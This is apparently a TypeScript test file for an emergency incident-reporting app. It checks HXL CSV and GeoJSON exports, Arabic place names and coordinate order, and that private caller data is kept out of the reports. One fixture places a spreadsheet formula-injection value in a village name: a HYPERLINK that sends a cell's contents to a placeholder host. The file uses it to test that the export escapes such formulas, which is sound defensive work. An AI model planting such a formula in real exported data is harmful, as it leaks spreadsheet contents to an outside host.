// HXL and GeoJSON reports of a period's incidents: the hashtag row is HXL 1.1 and every hashtag
// and attribute is the core dictionary's; the CSV keeps Arabic (UTF-8 with BOM) and defuses
// formulas; GeoJSON passes a validator with longitude first; nothing private leaves the post.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { check } from '@placemarkio/check-geojson';
import { describe, expect, it } from 'vitest';
import { writeReportFile } from '../../../electron/core/exchange/exchangeFiles';
import { csvCell } from '../../../shared/text/csv';
import { cleanedAfterEach, fileChooser, intake, MINUTE, openTestCore, T0 } from '../testCore';
import { HXL_CORE_ATTRIBUTES, HXL_CORE_HASHTAGS, HXL_TAGSPEC } from './hxlDictionary';

const { cores, tempDir } = cleanedAfterEach('beacon-report-');

interface PointFeature { geometry: { type: 'Point'; coordinates: number[] }; properties: Record<string, unknown> }
const features = (text: string) => (check(text) as unknown as { features: PointFeature[] }).features;

const PERIOD = { from: '2026-11-24', to: '2026-11-24' };

/** Parses RFC 4180 CSV (quotes, doubled quotes, CRLF) into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; } else cell += c;
  }
  if (cell || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

async function postWithIncidents() {
  const files = fileChooser();
  const t = await openTestCore({ files: files.files });
  cores.push(t);
  // Position known: an operator pasted coordinates.
  const known = await t.call('incidents.log', intake({
    type: 'building_collapse', receivedAt: T0,
    location: { district: 'jableh', locality: 'مركز جبلة', lat: 35.3609, lon: 35.9251 },
    reported: { trapped: 4, injured: 2, dead: 1 },
    description: 'The body of Khaled Mansour was recovered by neighbours',
  }));
  await t.call('timeline.addNote', { incidentId: known.incidentId, text: 'Dead: Khaled Mansour, Fatima Issa' });
  // A village of the region's list, named in Arabic without diacritics.
  t.clock.advance(MINUTE);
  const village = await t.call('incidents.log', intake({
    type: 'fire', receivedAt: T0 + MINUTE, callerName: 'Umm Ali', callerPhone: '+963 944 555 666',
    location: { district: 'latakia', subdistrict: 'rabia', locality: 'كباني' },
  }));
  // Only a district (a village not on the list, written as a spreadsheet formula).
  t.clock.advance(MINUTE);
  const district = await t.call('incidents.log', intake({
    type: 'flood', receivedAt: T0 + 2 * MINUTE, location: { district: 'al-haffah', locality: '=HYPERLINK("http://x.example/?"&A1,"click")' },
  }));
  // A second report of the first scene, cancelled as its duplicate: not counted twice.
  t.clock.advance(MINUTE);
  const twin = await t.call('incidents.log', intake({ receivedAt: T0 + 3 * MINUTE, reported: { trapped: 4, injured: 2, dead: 1 } }));
  await t.call('incidents.setStatus', { id: twin.incidentId, status: 'cancelled', cancelReason: 'duplicate' });
  return { t, files, ids: [known.incidentId, village.incidentId, district.incidentId] };
}

const PRIVATE = ['Abu Samer', '0933 123 456', 'Umm Ali', '944 555 666', 'Rania Haddad', 'Khaled Mansour', 'Fatima Issa', 'behind the bakery'];

describe('HXL report', () => {
  it('writes a header row, an HXL 1.1 hashtag row from the core dictionary, and one row per incident', async () => {
    const { t, files } = await postWithIncidents();
    const file = join(tempDir(), 'report.csv');
    files.state.next = file;
    const written = await t.call('exchange.exportHxl', PERIOD);
    expect(written).toEqual({ file, rows: 3 });
    expect(files.state.suggested).toBe('beacon-LTK-hxl-2026-11-24-2026-11-24.csv');
    const bytes = readFileSync(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.toString('utf8').slice(1));
    const [header, hashtags, ...data] = rows;
    expect(header![0]).toBe('Incident');
    for (const spec of hashtags!) {
      expect(spec, 'HXL tagspec grammar').toMatch(HXL_TAGSPEC);
      const [tag, ...attributes] = spec.split('+').map((p) => p.trim());
      expect(HXL_CORE_HASHTAGS.has(tag!), `${tag} in the core dictionary`).toBe(true);
      for (const a of attributes) expect(HXL_CORE_ATTRIBUTES.has(a), `+${a} in the core dictionary`).toBe(true);
    }
    expect(hashtags).toEqual(expect.arrayContaining(['#event+id', '#date+reported', '#adm1+name', '#adm2+name', '#loc+name', '#geo+lat', '#geo+lon', '#event+type', '#affected+injured', '#affected+killed', '#status+code']));
    expect(data).toHaveLength(3);
    const col = (name: string) => hashtags!.indexOf(name);
    expect(data.map((r) => r[col('#date+reported')])).toEqual(['2026-11-24T10:00:00+03:00', '2026-11-24T10:01:00+03:00', '2026-11-24T10:02:00+03:00']);
    expect(data[0]![col('#affected+missing')]).toBe('4');
    expect(data[0]![col('#affected+injured')]).toBe('2');
    expect(data[0]![col('#affected+killed')]).toBe('1');
    expect(data.map((r) => r[col('#geo+type')])).toEqual(['reported', 'village', 'district']);
    // The formula typed as a village name arrives as text.
    expect(data[2]![col('#loc+name')]).toBe('\'=HYPERLINK("http://x.example/?"&A1,"click")');
    const text = bytes.toString('utf8');
    for (const secret of PRIVATE) expect(text).not.toContain(secret);
  });

  it('keeps Arabic intact, in Arabic headers and place names for an Arabic-reading supervisor', async () => {
    const { t, files } = await postWithIncidents();
    await t.call('session.setLanguage', { language: 'ar' });
    const file = join(tempDir(), 'report-ar.csv');
    files.state.next = file;
    await t.call('exchange.exportHxl', PERIOD);
    const rows = parseCsv(readFileSync(file, 'utf8').slice(1));
    expect(rows[0]![0]).toBe('البلاغ');
    const col = rows[1]!.indexOf('#adm2+name');
    expect(rows.slice(2).map((r) => r[col])).toEqual(['جبلة', 'اللاذقية', 'الحفة']);
    expect(rows[2]![rows[1]!.indexOf('#loc+name')]).toBe('مركز جبلة');
  });

  it('writes a statistics table in HXL long form: one row per group and indicator, the statistics screen\'s numbers', async () => {
    const { t, files } = await postWithIncidents();
    const file = join(tempDir(), 'by-district.csv');
    files.state.next = file;
    expect(await t.call('exchange.exportHxl', { ...PERIOD, table: 'district' })).toEqual({ file, rows: 3 * 5 });
    expect(files.state.suggested).toBe('beacon-LTK-hxl-district-2026-11-24-2026-11-24.csv');
    const [header, hashtags, ...data] = parseCsv(readFileSync(file, 'utf8').slice(1));
    expect(header).toHaveLength(hashtags!.length);
    expect(hashtags).toEqual(['#date+start', '#date+end', '#adm2+code', '#adm2+name', '#indicator+code', '#indicator+name', '#indicator+num']);
    for (const spec of hashtags!) {
      expect(spec).toMatch(HXL_TAGSPEC);
      const [tag, ...attributes] = spec.split('+');
      expect(HXL_CORE_HASHTAGS.has(tag!), tag).toBe(true);
      for (const a of attributes) expect(HXL_CORE_ATTRIBUTES.has(a), a).toBe(true);
    }
    const incidents = Object.fromEntries(data.filter((r) => r[4] === 'incidents').map((r) => [r[2], Number(r[6])]));
    // The duplicate is left out here as on the statistics screen (a district with none has no row).
    expect(incidents).toEqual({ latakia: 1, jableh: 1, 'al-haffah': 1 });
    const report = await t.call('stats.report', { period: PERIOD });
    expect(report.totals.incidents).toBe(3);

    const byType = join(tempDir(), 'by-type.csv');
    files.state.next = byType;
    await t.call('exchange.exportHxl', { ...PERIOD, table: 'type' });
    const typeRows = parseCsv(readFileSync(byType, 'utf8').slice(1));
    expect(typeRows[1]!.slice(2, 4)).toEqual(['#event+type', '#event+type+name']);
    expect(typeRows.slice(2).filter((r) => r[4] === 'incidents' && r[6] !== '0').map((r) => r[2]).sort()).toEqual(['building_collapse', 'fire', 'flood']);
  });

  it('neutralises every formula prefix and quotes what CSV needs quoted', () => {
    expect(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'].map(csvCell)).toEqual(["'=1+1", "'+1", "'-1", "'@SUM(A1)", "\"'\tx\"", "\"'\rx\""]);
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
    expect(csvCell(-35.5)).toBe('-35.5');
    expect(csvCell(null)).toBe('');
  });

  it('leaves nothing behind when the period is wrong or the dialog is cancelled', async () => {
    const { t, files } = await postWithIncidents();
    const dir = tempDir();
    files.state.next = join(dir, 'x.csv');
    expect(await t.core.invoke(t.session, 'exchange.exportHxl', { from: '2026-11-30', to: '2026-11-01' })).toEqual({ ok: false, error: { code: 'exchange.badPeriod' } });
    expect(await t.core.invoke(t.session, 'exchange.exportHxl', { from: '2026-02-30', to: '2026-03-01' })).toEqual({ ok: false, error: { code: 'exchange.badPeriod' } });
    files.state.next = null;
    expect(await t.call('exchange.exportHxl', PERIOD)).toBeNull();
    expect(readdirSync(dir)).toEqual([]);
  });
});

describe('GeoJSON report', () => {
  it('is valid GeoJSON with longitude first, the same properties as HXL, and each position flagged', async () => {
    const { t, files } = await postWithIncidents();
    const file = join(tempDir(), 'incidents.geojson');
    files.state.next = file;
    expect(await t.call('exchange.exportGeojson', PERIOD)).toEqual({ file, rows: 3 });
    const text = readFileSync(file, 'utf8');
    const parsed = features(text);
    expect(parsed).toHaveLength(3);
    const [known, village, district] = parsed;
    expect(known!.geometry.coordinates).toEqual([35.9251, 35.3609]);
    expect(known!.properties).toMatchObject({ located: 'reported', lat: 35.3609, lon: 35.9251, type: 'building_collapse', trapped: 4, injured: 2, dead: 1 });
    // Kabani, from resources/regions/localities.json: lat 35.78, lon 36.09.
    expect(village!.geometry.coordinates).toEqual([36.09, 35.78]);
    expect(village!.properties).toMatchObject({ located: 'village', village: 'كباني', subdistrictCode: 'rabia' });
    // al-Haffah's centre: lat 35.5978, lon 36.0336.
    expect(district!.geometry.coordinates).toEqual([36.0336, 35.5978]);
    expect(district!.properties).toMatchObject({ located: 'district', districtCode: 'al-haffah' });
    for (const f of parsed) {
      const [lon, lat] = f.geometry.coordinates as [number, number];
      // The region lies at about 35.2–35.9 N, 35.7–36.3 E: swapped axes would put it elsewhere.
      expect(lat).toBeGreaterThan(35.2);
      expect(lat).toBeLessThan(35.95);
      expect(lon).toBeGreaterThan(35.7);
      expect(lon).toBeLessThan(36.3);
    }
    for (const secret of PRIVATE) expect(text).not.toContain(secret);
  });

  it('pages through many incidents received at the same moment without losing or repeating one', async () => {
    const t = await openTestCore();
    cores.push(t);
    const { incidentId } = await t.call('incidents.log', intake());
    const columns = 'type, priority, status, district, subdistrict, locality, locality_key, lat, lon, trapped, injured, dead, received_at, status_at, created_by';
    await t.core.store.write(null, async ({ tx }) => {
      for (let i = 0; i < 1234; i++) {
        await tx.run(`INSERT INTO incidents (id, number, ${columns}) SELECT ?, ?, ${columns} FROM incidents WHERE id = ?`,
          [`00000000-0000-4000-8000-${String(i).padStart(12, '0')}`, `LTK-BULK-${String(i).padStart(4, '0')}`, incidentId]);
      }
    });
    const file = join(tempDir(), 'bulk.geojson');
    const n = await writeReportFile(t.core.context, 'geojson', PERIOD, 'en', file);
    expect(n).toBe(1235);
    const numbers = features(readFileSync(file, 'utf8')).map((f) => f.properties.number as string);
    expect(new Set(numbers).size).toBe(1235);
  });
});
